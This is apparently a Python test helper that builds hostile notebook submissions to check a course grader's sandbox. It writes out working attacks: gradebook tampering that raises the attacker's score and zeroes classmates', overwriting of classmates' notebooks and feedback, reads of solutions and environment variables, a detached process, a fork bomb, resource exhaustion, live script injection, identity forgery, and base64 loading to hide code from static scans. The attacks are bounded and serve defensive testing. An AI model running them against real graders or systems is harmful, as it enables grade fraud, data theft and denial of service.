"""A catalogue of hostile submissions of the tiny assignment (issue #13, part 5).

Each entry is a trainee notebook of ``01_tiny`` (tests/_course_helpers.py) that
attacks the grader with one capability a trainee kernel must not have. Every
capability comes in two forms:

- ``*-cell``: the attack's code plainly in a trainee cell, where a static scan
  of the cells can see it;
- ``*-module``: the same code written to disk at run time as a module and
  imported (``open('helper_x.py', 'w').write(...)``, then ``import helper_x``),
  the code base64-encoded in the cell, so that no static scan of the cells sees
  the attack.

The capabilities: IPython's machinery (every later cell a no-op), replacing a
library function the hidden tests call, reading the coach's files into the
outputs, writing the coach's files (the gradebook, a neighbour's notebook and
feedback), a process that outlives its kernel, unbounded memory, and the
kernel's line to the grader made to lie (another trainee's id and answer) or
to answer nonsense. Beside them: a
fork bomb bounded in time, a huge file, a CPU loop that ignores SIGINT, trainee
markup with a live script, and submission folders whose names are not trainee
ids.

Every attack is bounded, so that a run against an unsandboxed grader harms
nothing outside the test's own course: the writers only write into a course
folder that holds :data:`TARGET_FLAG` (a file the test puts there), the fork
bomb stops after a few seconds, the survivors exit after :data:`LINGER`
seconds, and every process an attack starts carries :data:`MARKER` in its
command line, so that the test can find and stop it.
"""

from __future__ import annotations

import base64
import json
import secrets
import textwrap
from collections.abc import Callable

from _course_helpers import TINY, add_cell, release_nb, replace_answer, solution_nb

# This run's token: a concurrent run's attackers are neither found nor stopped by this one.
RUN = secrets.token_hex(4)
# In the command line of every process an attack starts, and in every text it writes.
MARKER = f"pmo-hostile-{RUN}"
# Only a course folder holding this file is a target of the writers.
TARGET_FLAG = f".pmo-hostile-target-{RUN}"
# The trainees the writers aim at: the honest neighbours (full marks) and the partial one.
HONEST = ("alice", "bruno", "chloe")
PARTIAL = "dora"
VICTIMS = (*HONEST, PARTIAL)
# Folder names in submitted/ that are not trainee ids.
INVALID_IDS = ("bad id", "élodie", "...", "<b>", "a'b")
# Seconds a surviving process waits before its writes, and lives after them.
SURVIVOR_SLEEP = 3
LINGER = 60
# Seconds the fork bomb spawns for, and each of its children sleeps.
BOMB_SECONDS = 3
BOMB_SLEEP = 4

# The typical mistake of the partial neighbour: it counts the tasks.
MISTAKE = "n_projects = len(portfolio.tasks)"
# The trainee markup whose script and handler must not be live in the feedback.
SCRIPT_MARK = f"{MARKER}-script"
ONERROR_MARK = f"{MARKER}-onerror"
# What the writers put in a neighbour's feedback page.
FEEDBACK_MARK = f"{MARKER}-feedback"


# -- the code the attacks share -------------------------------------------------------------
_FIND_COURSE = f'''
import os
import pathlib


def _course_root():
    """The coach's course folder: up from the cwd, else through any process's cwd."""
    here = pathlib.Path.cwd()
    places = [here, *here.parents]
    for link in sorted(pathlib.Path("/proc").glob("[0-9]*/cwd")):
        try:
            there = pathlib.Path(os.readlink(link))
        except OSError:
            continue
        places += [there, *there.parents]
    for place in places:
        try:
            if (place / "{TARGET_FLAG}").is_file():
                return place
        except OSError:
            continue
    return None
'''

_WRITES = f'''
import sqlite3

ME = {{me!r}}
VICTIMS = {VICTIMS!r}
ROOT = _course_root()


def _writes():
    try:  # my grades to full marks (auto, manual, one more extra point), the neighbours' to 0
        with sqlite3.connect(ROOT / "gradebook.db", timeout=30) as db:
            rows = db.execute(
                "select g.id, sa.student_id, gc.max_score from grade g"
                " join submitted_notebook sn on g.notebook_id = sn.id"
                " join submitted_assignment sa on sn.assignment_id = sa.id"
                " join grade_cells gc on gc.id = g.cell_id"
            ).fetchall()
            for grade_id, student, top in rows:
                if student == ME:
                    db.execute(
                        "update grade set auto_score = ?, manual_score = ?,"
                        " extra_credit = coalesce(extra_credit, 0) + 1 where id = ?",
                        (top, top, grade_id),
                    )
                elif student in VICTIMS:
                    db.execute("update grade set manual_score = 0 where id = ?", (grade_id,))
    except Exception as error:
        print("gradebook:", error)
    for victim in VICTIMS:
        try:  # the neighbour's submitted notebook blanked (the release copy)
            blank = (ROOT / "release" / "{TINY}" / "{TINY}.ipynb").read_text()
            (ROOT / "submitted" / victim / "{TINY}" / "{TINY}.ipynb").write_text(blank)
        except Exception as error:
            print("submitted:", error)
        try:  # the neighbour's feedback page replaced
            page = ROOT / "feedback" / victim / "{TINY}" / "{TINY}.html"
            page.parent.mkdir(parents=True, exist_ok=True)
            page.write_text("<html><body>{FEEDBACK_MARK}: " + victim + " scored 0</body></html>")
        except Exception as error:
            print("feedback:", error)
'''


# -- the capabilities -----------------------------------------------------------------------
def ipython_hooks(student: str) -> str:
    """IPython's machinery: an input transformer that blanks every later cell.

    In a blank notebook every test cell then runs as an empty cell, raises
    nothing, and nbgrader gives it full marks.
    """
    return textwrap.dedent(
        """
        from IPython import get_ipython

        get_ipython().input_transformers_post.append(lambda lines: [])
        """
    )


def patched_library(student: str) -> str:
    """Replace what the hidden tests call: the tamper check sees nothing, any number is right.

    ``_guard.changed`` keeps its identity (only its code is swapped), so the
    snapshot of the watched modules cannot tell; then ``expect_number`` accepts
    anything, and the wrong ``n_projects`` passes.
    """
    return textwrap.dedent(
        """
        from pmo_exercises.course import _guard, grading

        _guard.changed.__code__ = (lambda: []).__code__
        grading.expect_number = lambda *args, **kwargs: None
        """
    )


def reads_coach_files(student: str) -> str:
    """Read what the coach can read into the outputs: the source, solutions, gradebook, env.

    The tiny course's source notebook (hidden tests, solutions, rubric), its
    ``solutions/``, the first bytes of ``gradebook.db``, ``os.environ``, and the
    hidden blocks of the kit's own course sources (found from ``pmo_exercises``).
    """
    return _FIND_COURSE + textwrap.dedent(
        f'''
        import json

        import pmo_exercises
        from IPython.display import Pretty, display


        def show(title, text):
            display(Pretty("{MARKER}-read " + title + ":\\n" + text[:9000]))


        def sources(path):
            cells = json.loads(pathlib.Path(path).read_text())["cells"]
            return "\\n".join("".join(cell["source"]) for cell in cells)


        def hidden(path):
            text, keep = [], False
            for line in sources(path).splitlines():
                keep = keep or "### BEGIN" in line
                if keep:
                    text.append(line)
                keep = keep and "### END" not in line
            return "\\n".join(text)


        ROOT = _course_root()
        steps = {{
            "source": lambda: sources(ROOT / "source" / "{TINY}" / "{TINY}.ipynb"),
            "solutions": lambda: "\\n".join(
                sources(p) for p in sorted((ROOT / "solutions").rglob("*.ipynb"))
            ),
            "gradebook": lambda: repr((ROOT / "gradebook.db").read_bytes()[:64]),
            "environ": lambda: repr(dict(os.environ)),
        }}
        kit = pathlib.Path(pmo_exercises.__file__).resolve().parents[1]
        for path in sorted(kit.glob("course/source/*/*.ipynb")):
            steps["kit " + path.name] = lambda path=path: hidden(path)[:3000]
        for title, step in steps.items():
            try:
                show(title, step())
            except Exception as error:
                show(title, "not read: " + repr(error))
        '''
    )


def writes_coach_files(student: str) -> str:
    """Write what the coach can write: its own score up, the neighbours' notebooks and feedback.

    In ``gradebook.db`` its own grades to full marks (a manual score survives
    nbgrader's save of the auto scores, and an extra point on top) and the
    neighbours' to zero; each neighbour's ``submitted/`` notebook replaced by
    the release copy, and its feedback page by one that says it scored 0.
    """
    return _FIND_COURSE + _WRITES.format(me=student) + "\nif ROOT is not None:\n    _writes()\n"


def outlives_kernel(student: str) -> str:
    """A process in a session of its own that outlives the kernel and does the writes later.

    It sleeps :data:`SURVIVOR_SLEEP` seconds (past the end of its own
    grading), then does the writes of :func:`writes_coach_files` once a
    second for :data:`LINGER` seconds (each round one more extra point), so
    that it also writes after the whole batch is graded. Its command line
    carries ``MARKER-survivor``.
    """
    payload = (
        _FIND_COURSE
        + _WRITES.format(me=student)
        + textwrap.dedent(
            f"""
            import time

            time.sleep({SURVIVOR_SLEEP})
            for _ in range({LINGER}):
                if ROOT is not None:
                    _writes()
                time.sleep(1)
            """
        )
    )
    return textwrap.dedent(
        f"""
        import subprocess
        import sys

        subprocess.Popen(
            [sys.executable, "-c", {payload!r}, "{MARKER}-survivor"],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        """
    )


def unbounded_memory(student: str) -> str:
    """Allocate 1.5 GB and touch every page (numpy.ones), twice the 768 MB allowed."""
    return textwrap.dedent(
        """
        import numpy

        hog = numpy.ones(1_500_000_000 // 8)
        """
    )


def fork_bomb(student: str) -> str:
    """Spawn processes for a few seconds, each sleeping: the process limit.

    At most 1,000, for :data:`BOMB_SECONDS` seconds, each sleeping
    :data:`BOMB_SLEEP` seconds; it keeps trying when a spawn is refused, as a
    bomb does, so no error leaves the cell: the grader must learn of the limit
    from the sandbox, not from a traceback. Each carries ``MARKER-forkbomb`` in
    its command line.
    """
    return textwrap.dedent(
        f"""
        import subprocess
        import time

        children, failures, began = [], 0, time.monotonic()
        while time.monotonic() - began < {BOMB_SECONDS} and len(children) < 1000:
            try:
                children.append(
                    subprocess.Popen(
                        ["/bin/sh", "-c", "sleep {BOMB_SLEEP}; :", "{MARKER}-forkbomb"],
                        stdin=subprocess.DEVNULL,
                        stdout=subprocess.DEVNULL,
                        stderr=subprocess.DEVNULL,
                    )
                )
            except OSError:
                failures += 1
                time.sleep(0.01)
        print(len(children), "processes started,", failures, "refused")
        """
    )


def huge_file(student: str) -> str:
    """Write a 2 GiB file in the working directory: the file-size limit."""
    return textwrap.dedent(
        """
        chunk = bytes(64 << 20)
        with open("huge.bin", "wb") as out:
            for _ in range(32):
                out.write(chunk)
        """
    )


def cpu_loop(student: str) -> str:
    """A CPU-bound loop that ignores SIGINT (two minutes at most): the time limit."""
    return textwrap.dedent(
        """
        import signal
        import time

        signal.signal(signal.SIGINT, signal.SIG_IGN)
        until = time.monotonic() + 120
        while time.monotonic() < until:
            pass
        """
    )


def live_markup(student: str) -> str:
    """Trainee HTML outputs with a ``<script>`` and an ``onerror=`` handler."""
    return textwrap.dedent(
        f"""
        from IPython.display import HTML, display

        display(HTML('<script>window.pmoHostile = "{SCRIPT_MARK}";</script>'))
        display(HTML('<img src="nowhere.png" onerror="window.pmoHostile = \\'{ONERROR_MARK}\\'">'))
        """
    )


def reads_through_a_link(student: str) -> str:
    """A blank notebook printing ``key.ipynb``, submitted as a link to the coach's source.

    nbgrader copies a submission by following its links; the grader removes
    them first (the batch fixture plants the link in ``submitted/``).
    """
    return "print(open('key.ipynb').read())"


def forges_the_line(student: str) -> str:
    """Have the kernel's call thread claim the honest neighbour's id, with their answer.

    Between two trainee cells the grader asks that thread for the answers
    (``answers.serving``). Were the verdict to trust the id it names, the
    wrong ``n_projects`` would be graded against the neighbour's portfolio,
    for whom the forged count is right.
    """
    return textwrap.dedent(
        f"""
        from pmo_exercises.course.answers import serving
        from pmo_exercises.course.grading import untouched_portfolio
        theirs = len(untouched_portfolio({HONEST[0]!r}).projects)
        serving._call = lambda request: {{"ok": True, "value": {{
            "tests": {{k: {{"answers": {{"n_projects": theirs}}, "missing": []}}
                      for k in request.get("publish", {{}})}},
            "trainee": {HONEST[0]!r},
        }}}}
        """
    )


def garbles_the_line(student: str) -> str:
    """Have the kernel's call thread answer nonsense to the grader and to the clean shell."""
    return textwrap.dedent(
        """
        from pmo_exercises.course.answers import serving
        serving._call = lambda request: {"ok": True, "value": 42}
        """
    )


# -- the two forms --------------------------------------------------------------------------
def in_cell(nb: dict, code: str) -> dict:
    """The notebook with the attack plainly in a trainee cell after the setup cell."""
    return add_cell(nb, code)


def in_module(nb: dict, code: str, module: str) -> dict:
    """The notebook with the attack in a module it writes at run time, then imports.

    The cell holds the code base64-encoded: no static scan of the cells sees it.
    """
    encoded = base64.b64encode(code.encode()).decode()
    loader = (
        "import base64\nimport importlib\n\n"
        f"with open({module + '.py'!r}, 'w') as out:\n"
        f"    out.write(base64.b64decode({encoded!r}).decode())\n"
        "importlib.invalidate_caches()\n"
        f"import {module}  # noqa: E402"
    )
    return add_cell(nb, loader)


# -- the catalogue --------------------------------------------------------------------------
Attack = Callable[[str], str]

# name -> (attack, the answers it carries: "blank", "wrong n_projects" or "solved")
CAPABILITIES: dict[str, tuple[Attack, str]] = {
    "hooks": (ipython_hooks, "blank"),
    "patch": (patched_library, "wrong n_projects"),
    "reader": (reads_coach_files, "blank"),
    "writer": (writes_coach_files, "blank"),
    "survivor": (outlives_kernel, "blank"),
    "memory": (unbounded_memory, "solved"),
    "forged-line": (forges_the_line, "wrong n_projects"),
    "garbled-line": (garbles_the_line, "solved"),
}
# In a cell only: name -> (attack, answers)
EXTRAS: dict[str, tuple[Attack, str]] = {
    "forkbomb": (fork_bomb, "solved"),
    "hugefile": (huge_file, "solved"),
    "cpu-loop": (cpu_loop, "solved"),
    "markup": (live_markup, "solved"),
    "linker": (reads_through_a_link, "blank"),
}
#: The entry whose submission folder also holds a link to the source notebook.
LINKER = "linker"


def _answers(course, kind: str) -> dict:
    if kind == "blank":
        return release_nb(course, TINY)
    good = solution_nb(course, TINY)
    if kind == "wrong n_projects":
        return replace_answer(good, "answer_n_projects", "n_projects = 0")
    return good


def catalogue(course) -> dict[str, dict]:
    """Student id (the submission folder's name) -> the notebook it submits.

    The honest neighbours (:data:`HONEST`) submit the solution, :data:`PARTIAL`
    the typical mistake; each capability gives ``NAME-cell`` and ``NAME-module``;
    each extra one entry; each of :data:`INVALID_IDS` the solution.
    """
    good = solution_nb(course, TINY)
    entries = {name: good for name in HONEST}
    entries[PARTIAL] = replace_answer(good, "answer_n_projects", MISTAKE)
    for name, (attack, kind) in CAPABILITIES.items():
        nb = _answers(course, kind)
        entries[f"{name}-cell"] = in_cell(nb, attack(f"{name}-cell"))
        module = "helper_" + name.replace("-", "_")
        entries[f"{name}-module"] = in_module(nb, attack(f"{name}-module"), module)
    for name, (attack, kind) in EXTRAS.items():
        entries[name] = in_cell(_answers(course, kind), attack(name))
    for name in INVALID_IDS:
        entries[name] = good
    return entries


def cell_sources(nb: dict) -> list[str]:
    """Every cell's source of a notebook, as text."""
    return [
        "".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in nb["cells"]
    ]


def notebook_text(nb: dict) -> str:
    """A notebook's sources and their JSON (what a trainee had in hand)."""
    return "\n".join(cell_sources(nb)) + "\n" + json.dumps(nb)
